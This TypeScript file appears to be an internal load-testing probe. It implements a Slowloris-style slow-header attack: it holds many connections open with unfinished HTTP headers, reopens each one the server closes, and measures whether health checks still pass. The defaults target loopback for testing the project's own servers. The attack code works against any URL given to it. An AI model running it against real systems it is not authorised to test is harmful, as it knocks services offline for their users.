// The slow-header probe: one client opens many connections and never finishes
// a request header (a header line every few seconds, "Slowloris"), while
// another client, from another address, asks /healthz once a second. It
// measures what a visitor meets meanwhile: health checks passed, and how long
// the server let the slow connections hang on. Every slow connection the
// server closes is opened again a quarter of a second later, so the server
// keeps meeting `connections` of them. The checks run on a thread of their
// own, so the attacker's work does not delay them.
//
//   node --import tsx tools/fleet/probes/slow-headers.ts <url> [connections] [seconds]
//
// e.g. `... slow-headers.ts http://127.0.0.1:8080 1750 30` against the fleet's
// nginx or an API instance. The slow connections come from 127.0.0.1, the
// checks from 127.0.0.2 (every 127.x address is this machine's loopback), so
// per-address limits see two clients.
import { fork } from 'node:child_process';
import { request } from 'node:http';
import { connect, type Socket } from 'node:net';

export interface SlowHeaderOptions {
  /** The server's base URL, e.g. http://127.0.0.1:8080. */
  url: string;
  /** Slow-header connections to hold open. */
  connections: number;
  /** How long the checks run once the connections are open. */
  seconds: number;
  /** Seconds between two header lines on a slow connection; default 5. */
  trickleSeconds?: number;
  /** Local address of the slow connections; default 127.0.0.1. */
  attackerAddress?: string;
  /** Local address of the health checks; default 127.0.0.2. */
  checkerAddress?: string;
  /** Path the checks ask for; default /healthz. */
  healthPath?: string;
  /** Host header of the checks and the slow requests; default the URL's. */
  host?: string;
}

export interface SlowHeaderFigures {
  connections: number;
  /** Slow connections the server accepted (TCP connected), reopened ones included. */
  opened: number;
  /** Slow connections that could not be opened at all. */
  refused: number;
  /** Slow connections the server closed before the probe ended (each one was opened again). */
  closedByServer: number;
  /** Seconds from opening to the server's close, longest of those closed; null when none was. */
  longestHeldSeconds: number | null;
  /** Health checks (one a second, 2 s to answer 200). */
  checks: number;
  checksPassed: number;
  /** What the failed checks got, e.g. "timeout", "ECONNRESET", "502". */
  failures: Record<string, number>;
}

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** One GET, from `localAddress`, answered 200 within 2 s: "ok", else what happened instead. */
function check(url: URL, path: string, host: string, localAddress: string): Promise<string> {
  return new Promise((resolve) => {
    const req = request(
      {
        host: url.hostname,
        port: url.port,
        path,
        localAddress,
        headers: { host },
        agent: false,
        timeout: 2000,
      },
      (res) => {
        res.resume();
        res.on('end', () => resolve(res.statusCode === 200 ? 'ok' : String(res.statusCode)));
        res.on('error', () => resolve('aborted'));
      },
    );
    req.on('timeout', () => {
      req.destroy();
      resolve('timeout');
    });
    req.on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? 'error'));
    req.end();
  });
}

interface CheckOptions {
  url: string;
  path: string;
  host: string;
  localAddress: string;
  seconds: number;
}

type CheckFigures = Pick<SlowHeaderFigures, 'checks' | 'checksPassed' | 'failures'>;

/** One check a second for `seconds`. */
async function runChecks(options: CheckOptions): Promise<CheckFigures> {
  const url = new URL(options.url);
  const failures: Record<string, number> = {};
  let checks = 0;
  let checksPassed = 0;
  const deadline = performance.now() + options.seconds * 1000;
  while (performance.now() < deadline) {
    const tick = performance.now();
    const result = await check(url, options.path, options.host, options.localAddress);
    checks += 1;
    if (result === 'ok') checksPassed += 1;
    else failures[result] = (failures[result] ?? 0) + 1;
    await sleep(Math.max(0, 1000 - (performance.now() - tick)));
  }
  return { checks, checksPassed, failures };
}

/** The checks in a process of their own (this file, with --checks). */
function checksElsewhere(options: CheckOptions): Promise<CheckFigures> {
  return new Promise((resolve, reject) => {
    const child = fork(__filename, ['--checks', JSON.stringify(options)], { stdio: 'inherit' });
    child.once('message', (figures) => resolve(figures as CheckFigures));
    child.once('error', reject);
    child.once('exit', (code) => {
      if (code !== 0) reject(new Error(`the checks exited with ${code}`));
    });
  });
}

export async function slowHeaderProbe(options: SlowHeaderOptions): Promise<SlowHeaderFigures> {
  const url = new URL(options.url);
  const host = options.host ?? url.host;
  const attacker = options.attackerAddress ?? '127.0.0.1';
  const trickleMs = (options.trickleSeconds ?? 5) * 1000;
  const sockets: Socket[] = [];
  const held: number[] = [];
  let opened = 0;
  let refused = 0;
  let ending = false;

  const open = () =>
    new Promise<void>((resolve) => {
      const started = performance.now();
      const socket = connect({ host: url.hostname, port: Number(url.port), localAddress: attacker });
      let connected = false;
      sockets.push(socket);
      socket.setNoDelay(true);
      socket.on('error', () => undefined);
      socket.once('connect', () => {
        connected = true;
        opened += 1;
        socket.write(`GET ${options.healthPath ?? '/healthz'} HTTP/1.1\r\nHost: ${host}\r\n`);
        resolve();
      });
      socket.once('close', () => {
        if (!connected) {
          refused += 1;
          resolve();
        } else if (!ending) {
          held.push((performance.now() - started) / 1000);
          // As a real attacker would: every connection the server closes is opened again.
          setTimeout(() => void open(), 250);
        }
      });
      // Whatever the server answers (408, 400), the probe reads it and waits for the close.
      socket.on('data', () => undefined);
    });

  // Open them a hundred at a time, as fast as the server takes them.
  for (let i = 0; i < options.connections; i += 100) {
    await Promise.all(Array.from({ length: Math.min(100, options.connections - i) }, open));
  }
  const trickle = setInterval(() => {
    for (const socket of sockets) if (!socket.destroyed) socket.write(`X-Slow-${Date.now()}: 1\r\n`);
  }, trickleMs);

  const { checks, checksPassed, failures } = await checksElsewhere({
    url: options.url,
    path: options.healthPath ?? '/healthz',
    host,
    localAddress: options.checkerAddress ?? '127.0.0.2',
    seconds: options.seconds,
  });

  ending = true;
  clearInterval(trickle);
  const closedByServer = held.length;
  for (const socket of sockets) socket.destroy();
  return {
    connections: options.connections,
    opened,
    refused,
    closedByServer,
    longestHeldSeconds: held.length ? Math.round(held.reduce((a, b) => Math.max(a, b)) * 10) / 10 : null,
    checks,
    checksPassed,
    failures,
  };
}

if (require.main === module && process.argv[2] === '--checks') {
  void runChecks(JSON.parse(process.argv[3]!) as CheckOptions).then((figures) => {
    process.send?.(figures);
    process.disconnect?.();
  });
} else if (require.main === module) {
  const [target, connections = '1750', seconds = '30'] = process.argv.slice(2);
  if (!target) {
    console.error('usage: slow-headers.ts <url> [connections] [seconds]');
    process.exit(2);
  }
  slowHeaderProbe({ url: target, connections: Number(connections), seconds: Number(seconds) }).then(
    (figures) => console.log(JSON.stringify(figures, null, 2)),
    (error: unknown) => {
      console.error(error);
      process.exit(1);
    },
  );
}
